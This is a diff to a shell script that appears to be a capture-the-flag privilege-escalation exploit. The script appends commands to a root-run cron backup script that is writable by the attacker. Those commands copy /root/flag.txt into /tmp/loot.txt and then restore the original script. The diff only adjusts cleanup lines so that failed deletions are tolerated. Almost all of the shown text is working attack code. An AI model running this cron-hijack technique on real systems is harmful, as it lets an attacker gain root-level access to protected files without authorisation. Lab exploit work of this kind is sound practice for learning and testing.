@@ -11,7 +11,7 @@ set -eu
 S=/opt/scripts/backup-home.sh
 id; ls -l "$S"; cat /etc/cron.d/backup-home
 cp "$S" /tmp/backup-home.orig && chmod 0644 /tmp/backup-home.orig
-rm -f /tmp/loot.txt
+rm -f /tmp/loot.txt 2>/dev/null || true
 cat >>"$S" <<'P'
 cp /tmp/backup-home.orig /opt/scripts/.backup-home.new && chmod 0755 /opt/scripts/.backup-home.new && mv -f /opt/scripts/.backup-home.new /opt/scripts/backup-home.sh
 cat /root/flag.txt > /tmp/loot.tmp && chmod 0644 /tmp/loot.tmp && mv -f /tmp/loot.tmp /tmp/loot.txt
@@ -22,5 +22,5 @@ for i in $(seq 1 40); do [ -s /tmp/loot.txt ] && break; sleep 1; done
 ls -l "$S" >&2
 [ -w "$S" ] && { echo "script still writable" >&2; exit 1; }
 cat /tmp/loot.txt
-rm -f /tmp/loot.txt /tmp/backup-home.orig
+rm -f /tmp/backup-home.orig; rm -f /tmp/loot.txt 2>/dev/null || true   # root-owned in sticky /tmp: stays
 SH
